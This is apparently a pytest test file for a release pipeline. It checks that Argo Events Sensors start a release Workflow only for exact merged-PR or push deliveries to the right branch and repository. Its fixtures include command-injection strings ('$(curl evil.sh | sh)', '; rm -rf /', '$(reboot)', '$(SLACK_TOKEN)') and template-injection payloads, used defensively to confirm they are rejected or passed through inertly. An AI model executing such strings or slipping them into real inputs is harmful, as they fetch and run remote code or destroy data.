"""The rendered Sensors of every stack, fed real GitHub deliveries through Argo Events' own code.

Each delivery goes through ``components.upstream_events`` (the ``simulate-webhook``
command's engine): tools/eventscheck builds the event the github EventSource of
argo-events v1.9.10 publishes, runs every Sensor's filters with
``pkg/sensors/dependencies.Filter`` and creates the trigger's object with
``pkg/sensors/triggers`` and the standard k8s trigger. The payloads are the real ones
of ``upstream/github-webhooks``, edited per test (branch, repository, hostile text).

Expectations come from the payload and the release contract (docs/release-contract.md,
section 1), never from the Sensor: the Workflow's name, namespace, template and the six
arguments. Where a trigger parameter declares an encoding (a ``dataTemplate`` with
sprig ``b64enc``), the argument is decoded before it is compared, so the tests hold for
both the plain and the encoded form.
"""

from __future__ import annotations

import base64
import copy
import itertools
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from components import intake, names, sensors, upstream_events
from components.config import STACKS, Service, Settings, load_services, load_stack_settings
from components.render.output import read_stack
from tests.conftest import ROOT, SERVICES_FILE
from tests.upstream_events_support import payload, pull_request, push, rendered, require_tool

sys.path.insert(0, str(ROOT / "scripts"))
from _common import payload_text  # the release's own decoder

Manifest = dict[str, Any]
Result = dict[str, Any]

MERGED_SHA = "c4295bd74fb0f4fda03689c3df3f2803b658fd85"  # merge_commit_sha of pull_request.closed-merged.json
_counter = itertools.count()


@pytest.fixture(autouse=True)
def _tool() -> None:
    require_tool()


def settings_of(stack: str) -> Settings:
    return load_stack_settings(ROOT, stack)


def services_of(stack: str) -> list[Service]:
    return load_services(SERVICES_FILE).for_environment(stack)


def sensors_of(out: Path, stack: str) -> dict[str, Manifest]:
    _, manifests = read_stack(out / stack)
    return {m["metadata"]["name"]: m for m in manifests if m["kind"] == "Sensor"}


def deliver(out: Path, stack: str, body: dict[str, Any], github_event: str, repo: str,
            tmp_path: Path) -> list[Result]:
    """One delivery of `body` to the EventSource event of `repo`, through every Sensor of the stack."""
    path = tmp_path / f"delivery-{next(_counter)}.json"
    path.write_text(json.dumps(body), encoding="utf-8")
    headers = [("Content-Type", "application/json"), ("X-GitHub-Event", github_event),
               ("X-GitHub-Delivery", "00000000-0000-4000-8000-000000000001")]
    results = upstream_events.simulate(out / stack / "manifests.yaml", intake.event_name(repo), path, headers)
    assert all(r["errors"] == [] for r in results), results
    return results


def contract_arguments(body: dict[str, Any], trigger: str) -> dict[str, str]:
    """The release arguments the contract derives from a delivery's payload."""
    if trigger == "push":
        return {"revision": body["after"], "pr-number": "", "pr-title": "",
                "author": body["sender"]["login"], "repository": body["repository"]["full_name"], "trigger": "push"}
    pr = body["pull_request"]
    return {"revision": pr["merge_commit_sha"], "pr-number": str(pr["number"]), "pr-title": pr["title"],
            "author": pr["user"]["login"], "repository": body["repository"]["full_name"], "trigger": "pull_request"}


def encoded_arguments(sensor: Manifest) -> set[str]:
    """Arguments whose trigger parameter declares base64 (a dataTemplate with b64enc)."""
    k8s = sensor["spec"]["triggers"][0]["template"]["k8s"]
    declared = [p["name"] for p in k8s["source"]["resource"]["spec"]["arguments"]["parameters"]]
    found = set()
    for parameter in k8s["parameters"]:
        match = re.fullmatch(r"spec\.arguments\.parameters\.(\d+)\.value", parameter["dest"])
        if match and "b64enc" in parameter["src"].get("dataTemplate", ""):
            found.add(declared[int(match[1])])
    return found


def arguments(workflow: Manifest, sensor: Manifest) -> dict[str, str]:
    """The Workflow's arguments as the release reads them (base64 ones decoded)."""
    encoded = encoded_arguments(sensor)
    values = {p["name"]: p["value"] for p in workflow["spec"]["arguments"]["parameters"]}
    return {k: payload_text({k: v}, k) if k in encoded else v for k, v in values.items()}


def summary(workflow: Manifest, sensor: Manifest) -> Manifest:
    meta = workflow["metadata"]
    return {
        "kind": workflow["kind"],
        "name": meta["name"],
        "namespace": meta["namespace"],
        "template": workflow["spec"]["workflowTemplateRef"]["name"],
        "labels": {k: v for k, v in meta["labels"].items() if k.startswith("release-pipeline/")},
        "arguments": arguments(workflow, sensor),
    }


def expected(svc: Service, stack: str, body: dict[str, Any], trigger: str) -> Manifest:
    args = contract_arguments(body, trigger)
    return {
        "kind": "Workflow",
        "name": names.workflow_name(svc.name, stack, args["revision"]),
        "namespace": settings_of(stack).namespaces.workflows,
        "template": names.release_template_name(svc.name),
        "labels": {"release-pipeline/service": svc.name, "release-pipeline/environment": stack},
        "arguments": args,
    }


def fired(results: list[Result]) -> dict[str, int]:
    return {r["sensor"]: len(r["created"]) for r in results if r["fired"]}


# --------------------------------------------------------------- merged PRs


@pytest.mark.parametrize("stack", STACKS)
def test_merged_pr_into_the_branch_starts_exactly_its_release(stack: str, tmp_path: Path) -> None:
    out = rendered()
    found = sensors_of(out, stack)
    services = services_of(stack)
    assert sorted(found) == sorted(s.name for s in services)
    for svc in services:
        body = pull_request(base=settings_of(stack).branch, repo=svc.repo)
        results = deliver(out, stack, body, "pull_request", svc.repo, tmp_path)
        same_repo = {s.name for s in services if s.repo.lower() == svc.repo.lower()}
        assert fired(results) == dict.fromkeys(same_repo, 1), svc.name
        [mine] = [r for r in results if r["sensor"] == svc.name]
        [workflow] = mine["created"]
        assert summary(workflow, found[svc.name]) == expected(svc, stack, body, "pull_request")
        assert workflow["apiVersion"] == "argoproj.io/v1alpha1"
        assert mine["dependencies"][sensors.MERGED] == {"received": True, "passed": True}


def _not_firing_cases() -> list[tuple[str, Callable[[str, str], tuple[dict[str, Any], str]]]]:
    def pr(name: str = "pull_request.closed-merged.json", **fields: Any) -> Callable[..., Any]:
        return lambda branch, repo: (pull_request(name, base=branch, repo=repo, **fields), "pull_request")

    def retarget(branch: Callable[[str], str] | None = None, repo: Callable[[str], str] | None = None) -> Any:
        return lambda b, r: (pull_request(base=branch(b) if branch else b, repo=repo(r) if repo else r),
                             "pull_request")

    def other_event(name: str, event: str) -> Callable[..., Any]:
        def make(branch: str, repo: str) -> tuple[dict[str, Any], str]:
            body = payload(name)
            body["repository"]["full_name"] = repo
            if "pull_request" in body:
                body["pull_request"]["base"]["ref"] = branch
            return body, event
        return make

    return [
        ("closed unmerged", pr("pull_request.closed.json")),
        ("opened", pr("pull_request.opened.json")),
        ("synchronize", pr("pull_request.synchronize.json")),
        ("review comment", other_event("pull_request_review_comment.edited.json", "pull_request_review_comment")),
        ("merged payload under another event header", lambda b, r: (pull_request(base=b, repo=r),
                                                                     "pull_request_review")),
        ("ping", other_event("ping.json", "ping")),
        ("push (push trigger off)", lambda b, r: (push(branch=b, repo=r), "push")),
        ("other branch", retarget(branch=lambda b: "master")),
        ("branch with a suffix", retarget(branch=lambda b: f"{b}-old")),
        ("branch with a prefix", retarget(branch=lambda b: f"feature/{b}")),
        ("branch with a trailing newline", retarget(branch=lambda b: f"{b}\n")),
        ("branch in another case", retarget(branch=lambda b: b.upper())),
        ("other repository", retarget(repo=lambda r: "Codertocat/Hello-World")),
        ("repository with a suffix", retarget(repo=lambda r: f"{r}-fork")),
        ("repository with a prefix", retarget(repo=lambda r: f"evil/{r}")),
        ("repository of another owner", retarget(repo=lambda r: "someone-else/" + r.split("/")[1])),
        ("non-hex merge sha", pr(merge_commit_sha="$(curl evil.sh | sh)")),
        ("short merge sha", pr(merge_commit_sha="c4295bd")),
        ("upper-case merge sha", pr(merge_commit_sha=MERGED_SHA.upper())),
        ("merge sha with a suffix", pr(merge_commit_sha=f"{MERGED_SHA}; rm -rf /")),
        ("merged is a word", pr(merged="yes")),
        ("merged is false", pr(merged=False)),
        ("merged is missing", lambda b, r: (_without(pull_request(base=b, repo=r), "merged"), "pull_request")),
    ]


def _without(body: dict[str, Any], field: str) -> dict[str, Any]:
    del body["pull_request"][field]
    return body


NOT_FIRING = _not_firing_cases()


@pytest.mark.parametrize("stack", STACKS)
@pytest.mark.parametrize(("case", "make"), NOT_FIRING, ids=[c for c, _ in NOT_FIRING])
def test_nothing_else_starts_a_release(stack: str, case: str, make: Callable[..., Any], tmp_path: Path) -> None:
    out = rendered()
    for svc in services_of(stack):
        body, event = make(settings_of(stack).branch, svc.repo)
        assert fired(deliver(out, stack, body, event, svc.repo, tmp_path)) == {}, (case, svc.name)


@pytest.mark.parametrize("stack", STACKS)
def test_a_merge_into_another_environments_branch_starts_nothing_here(stack: str, tmp_path: Path) -> None:
    out = rendered()
    svc = services_of(stack)[0]
    for other in STACKS:
        branch = settings_of(other).branch
        results = deliver(out, stack, pull_request(base=branch, repo=svc.repo), "pull_request", svc.repo, tmp_path)
        assert bool(fired(results)) == (branch == settings_of(stack).branch), (stack, other)


def test_upstream_bool_filter_also_takes_the_string_true(tmp_path: Path) -> None:
    """gjson's Bool() reads "true" as true (filter.go): the filter is not type-strict. Only
    GitHub's signed payload, whose `merged` is a JSON boolean, reaches the Sensor."""
    out = rendered()
    svc = services_of("dev")[0]
    body = pull_request(base=settings_of("dev").branch, repo=svc.repo, merged="true")
    assert fired(deliver(out, "dev", body, "pull_request", svc.repo, tmp_path)).get(svc.name) == 1


def test_repository_name_matches_in_any_case(tmp_path: Path) -> None:
    out = rendered()
    svc = services_of("dev")[0]
    body = pull_request(base=settings_of("dev").branch, repo=svc.repo.swapcase())
    results = deliver(out, "dev", body, "pull_request", svc.repo, tmp_path)
    assert fired(results).get(svc.name) == 1
    # The argument carries the payload's spelling, as GitHub sent it.
    [workflow] = next(r for r in results if r["sensor"] == svc.name)["created"]
    assert arguments(workflow, sensors_of(out, "dev")[svc.name])["repository"] == svc.repo.swapcase()


def _services_with_dotted_repo() -> str:
    text = SERVICES_FILE.read_text(encoding="utf-8")
    return text.replace("services:\n", """services:
  - name: dotted
    repo: Appen/my.repo
    imageRepository: datacollect-dotted
    namespace: datacollect
    project: datacollect
    helm:
      repo: Appen-International/datacollect-helm
      path: app/dotted
""", 1)


def test_repository_metacharacters_are_literal(tmp_path: Path) -> None:
    out = rendered(_services_with_dotted_repo(), "dev")
    branch = settings_of("dev").branch
    ok = deliver(out, "dev", pull_request(base=branch, repo="appen/MY.REPO"), "pull_request", "Appen/my.repo", tmp_path)
    assert fired(ok) == {"dotted": 1}
    # "." is literal: a regexp wildcard would let this one through.
    wild = deliver(out, "dev", pull_request(base=branch, repo="Appen/myXrepo"), "pull_request", "Appen/my.repo",
                   tmp_path)
    assert fired(wild) == {}


def test_large_pr_numbers_arrive_as_plain_digits(tmp_path: Path) -> None:
    out = rendered()
    svc = services_of("dev")[0]
    body = pull_request(base=settings_of("dev").branch, repo=svc.repo, number=279147437)
    [workflow] = next(r for r in deliver(out, "dev", body, "pull_request", svc.repo, tmp_path)
                      if r["sensor"] == svc.name)["created"]
    assert arguments(workflow, sensors_of(out, "dev")[svc.name])["pr-number"] == "279147437"


# ------------------------------------------------------------ hostile payload text

HOSTILE = [
    "$(SLACK_TOKEN)",
    "{{workflow.name}}",
    "fix\nsecond line; rm -rf / #",
    "$(curl evil.sh | sh) `id` \"quoted\" 'single' {{inputs.parameters.revision}} ${HOME} <b>&amp;</b> \u00e9",
    "{{ .Input.body.pull_request.title }}",
]


@pytest.mark.parametrize("title", HOSTILE, ids=["dollar-paren", "argo-template", "newline", "mixed", "go-template"])
def test_hostile_text_arrives_verbatim_in_its_argument_only(title: str, tmp_path: Path) -> None:
    out = rendered()
    svc = services_of("dev")[0]
    login = "x$(id)`whoami`{{workflow.uid}}"
    body = pull_request(base=settings_of("dev").branch, repo=svc.repo, title=title)
    body["pull_request"]["user"]["login"] = login
    results = deliver(out, "dev", body, "pull_request", svc.repo, tmp_path)
    [workflow] = next(r for r in results if r["sensor"] == svc.name)["created"]
    sensor = sensors_of(out, "dev")[svc.name]
    assert summary(workflow, sensor) == expected(svc, "dev", body, "pull_request")
    assert arguments(workflow, sensor)["pr-title"] == title
    assert arguments(workflow, sensor)["author"] == login
    # Nowhere else in the created object.
    rest = copy.deepcopy(workflow)
    rest["spec"]["arguments"]["parameters"] = [p for p in rest["spec"]["arguments"]["parameters"]
                                               if p["name"] not in {"pr-title", "author"}]
    text = json.dumps(rest)
    for fragment in ("SLACK_TOKEN", "$(", "{{", "second line", "whoami", "curl", "${HOME}"):
        assert fragment not in text


def test_the_encoded_form_decodes_to_the_same_text(tmp_path: Path) -> None:
    """The helpers above read a `b64enc` dataTemplate parameter as the release does: decoded."""
    import yaml

    out = rendered()
    svc = services_of("dev")[0]
    _, manifests = read_stack(out / "dev")
    for m in manifests:
        if m["kind"] == "Sensor" and m["metadata"]["name"] == svc.name:
            for p in m["spec"]["triggers"][0]["template"]["k8s"]["parameters"]:
                if p["src"].get("dataKey") == "body.pull_request.title":
                    p["src"] = {"dependencyName": p["src"]["dependencyName"],
                                "dataTemplate": "b64:{{ .Input.body.pull_request.title | b64enc }}"}
            sensor = m
    encoded_out = tmp_path / "out"
    (encoded_out / "dev").mkdir(parents=True)
    (encoded_out / "dev" / "manifests.yaml").write_text(yaml.safe_dump_all(manifests), encoding="utf-8")
    title = HOSTILE[3]
    body = pull_request(base=settings_of("dev").branch, repo=svc.repo, title=title)
    [workflow] = next(r for r in deliver(encoded_out, "dev", body, "pull_request", svc.repo, tmp_path)
                      if r["sensor"] == svc.name)["created"]
    raw = {p["name"]: p["value"] for p in workflow["spec"]["arguments"]["parameters"]}
    assert raw["pr-title"] == "b64:" + base64.b64encode(title.encode()).decode()
    assert summary(workflow, sensor) == expected(svc, "dev", body, "pull_request")


# ------------------------------------------------------------------- push trigger


def _services_with_push(name: str) -> str:
    text = SERVICES_FILE.read_text(encoding="utf-8")
    marker = f"  - name: {name}\n"
    assert marker in text
    return text.replace(marker, f"{marker}    triggerOnPush: true\n", 1)


def test_push_starts_a_release_only_with_trigger_on_push(tmp_path: Path) -> None:
    svc = next(s for s in services_of("dev") if s.name == "vbsiv")
    out = rendered(_services_with_push("vbsiv"), "dev")
    sensor = sensors_of(out, "dev")["vbsiv"]
    branch = settings_of("dev").branch
    body = push(branch=branch, repo=svc.repo)
    results = deliver(out, "dev", body, "push", svc.repo, tmp_path)
    assert fired(results) == {"vbsiv": 1}
    [workflow] = next(r for r in results if r["sensor"] == "vbsiv")["created"]
    assert summary(workflow, sensor) == expected(svc, "dev", body, "push")
    # A merged PR still starts it, with its own values (no constant of the push leaks in).
    merged = pull_request(base=branch, repo=svc.repo)
    [from_pr] = next(r for r in deliver(out, "dev", merged, "pull_request", svc.repo, tmp_path)
                     if r["sensor"] == "vbsiv")["created"]
    assert summary(from_pr, sensor) == expected(svc, "dev", merged, "pull_request")
    # The same merge seen as a push names the same Workflow: the second create is AlreadyExists.
    again = push(branch=branch, repo=svc.repo, after=MERGED_SHA)
    [from_push] = next(r for r in deliver(out, "dev", again, "push", svc.repo, tmp_path)
                       if r["sensor"] == "vbsiv")["created"]
    assert from_push["metadata"]["name"] == from_pr["metadata"]["name"]


PUSH_NOT_FIRING: list[tuple[str, Callable[[str, str], dict[str, Any]]]] = [
    ("other branch", lambda b, r: push(branch="master", repo=r)),
    ("branch with a suffix", lambda b, r: push(branch=f"{b}-old", repo=r)),
    ("tag of the branch's name", lambda b, r: push(branch=b, repo=r, ref=f"refs/tags/{b}")),
    ("other repository", lambda b, r: push(branch=b, repo=f"{r}-fork")),
    ("branch deleted", lambda b, r: push(branch=b, repo=r, deleted=True, after="0" * 40)),
    ("non-hex after", lambda b, r: push(branch=b, repo=r, after="$(reboot)")),
]


@pytest.mark.parametrize(("case", "make"), PUSH_NOT_FIRING, ids=[c for c, _ in PUSH_NOT_FIRING])
def test_push_filters_are_exact(case: str, make: Callable[[str, str], dict[str, Any]], tmp_path: Path) -> None:
    svc = next(s for s in services_of("dev") if s.name == "vbsiv")
    out = rendered(_services_with_push("vbsiv"), "dev")
    body = make(settings_of("dev").branch, svc.repo)
    assert fired(deliver(out, "dev", body, "push", svc.repo, tmp_path)) == {}, case


def test_the_real_tag_deletion_starts_nothing(tmp_path: Path) -> None:
    svc = next(s for s in services_of("dev") if s.name == "vbsiv")
    out = rendered(_services_with_push("vbsiv"), "dev")
    body = payload("push.tag.json")
    body["repository"]["full_name"] = svc.repo
    assert fired(deliver(out, "dev", body, "push", svc.repo, tmp_path)) == {}


# -------------------------------------------------------------- the command line


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "components", "simulate-webhook", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=300, check=False)


def test_simulate_webhook_prints_every_sensor_of_the_stack(tmp_path: Path) -> None:
    out = rendered()
    svc = services_of("live")[0]
    body = pull_request(base=settings_of("live").branch, repo=svc.repo)
    path = tmp_path / "merged.json"
    path.write_text(json.dumps(body), encoding="utf-8")
    proc = run_cli("--in", str(out), "--stack", "live", "--event", intake.event_name(svc.repo),
                   "--payload", str(path), "--header", "X-GitHub-Event=pull_request")
    assert proc.returncode == 0, proc.stderr
    results = json.loads(proc.stdout)
    assert sorted(r["sensor"] for r in results) == sorted(s.name for s in services_of("live"))
    [mine] = [r for r in results if r["sensor"] == svc.name]
    assert mine["fired"] is True
    assert [summary(w, sensors_of(out, "live")[svc.name]) for w in mine["created"]] == [
        expected(svc, "live", body, "pull_request")]


def _bad_inputs(out: Path, tmp: Path) -> list[tuple[str, list[str], str]]:
    good = tmp / "good.json"
    good.write_text(json.dumps(payload("pull_request.closed-merged.json")), encoding="utf-8")
    (tmp / "bad.json").write_text("{not json", encoding="utf-8")
    (tmp / "list.json").write_text("[1, 2]", encoding="utf-8")
    (tmp / "latin1.json").write_bytes(b'{"title": "\xe9"}')
    event = intake.event_name(services_of("dev")[0].repo)
    base = ["--stack", "dev", "--event", event, "--header", "X-GitHub-Event=pull_request"]
    return [
        ("missing render folder", ["--in", str(tmp / "nowhere"), *base, "--payload", str(good)], "no such directory"),
        ("stack not rendered", ["--in", str(tmp), *base, "--payload", str(good)], "no dev/manifests.yaml"),
        ("missing payload", ["--in", str(out), *base, "--payload", str(tmp / "none.json")], "no such file"),
        ("payload not JSON", ["--in", str(out), *base, "--payload", str(tmp / "bad.json")], "not JSON"),
        ("payload not an object", ["--in", str(out), *base, "--payload", str(tmp / "list.json")], "JSON object"),
        ("payload not UTF-8", ["--in", str(out), *base, "--payload", str(tmp / "latin1.json")], "UTF-8"),
        ("header without =", ["--in", str(out), *base, "--payload", str(good), "--header", "X-Foo"], "NAME=VALUE"),
        ("header with a line break", ["--in", str(out), *base, "--payload", str(good), "--header", "X-A=b\nc"],
         "line break"),
        ("unknown event", ["--in", str(out), "--stack", "dev", "--event", "no-such-repo", "--payload", str(good),
                           "--header", "X-GitHub-Event=pull_request"], "has the event \"no-such-repo\""),
        ("no X-GitHub-Event", ["--in", str(out), "--stack", "dev", "--event", event, "--payload", str(good)],
         "X-GitHub-Event"),
        ("unsupported Content-Type", ["--in", str(out), *base, "--payload", str(good),
                                      "--header", "Content-Type=text/plain"], "Content-Type"),
        ("unknown stack", ["--in", str(out), "--stack", "prod", "--event", event, "--payload", str(good)],
         "invalid choice"),
    ]


def test_unusable_input_exits_2_with_a_message(tmp_path: Path) -> None:
    out = rendered()
    for case, args, message in _bad_inputs(out, tmp_path):
        proc = run_cli(*args)
        assert proc.returncode == 2, (case, proc.stdout, proc.stderr)
        assert message in proc.stderr, (case, proc.stderr)
        assert "Traceback" not in proc.stderr, case
        assert proc.stdout == "", case
